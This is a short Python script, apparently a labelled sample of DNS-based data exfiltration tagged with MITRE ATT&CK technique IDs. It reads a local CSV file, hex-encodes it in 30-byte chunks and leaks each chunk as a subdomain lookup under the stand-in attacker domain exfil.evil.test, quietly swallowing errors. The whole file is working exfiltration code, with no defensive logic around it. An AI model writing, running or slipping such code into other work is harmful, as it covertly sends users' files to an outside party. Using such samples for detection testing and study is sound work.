# hostile: data exfiltrated through DNS lookups of computed names (T1048.003, T1071.004)
import socket

data = open("/work/report.csv", "rb").read()
for i in range(0, len(data), 30):
    label = data[i:i + 30].hex()
    try:
        socket.gethostbyname(f"{label}.{i}.exfil.evil.test")
    except OSError:
        pass
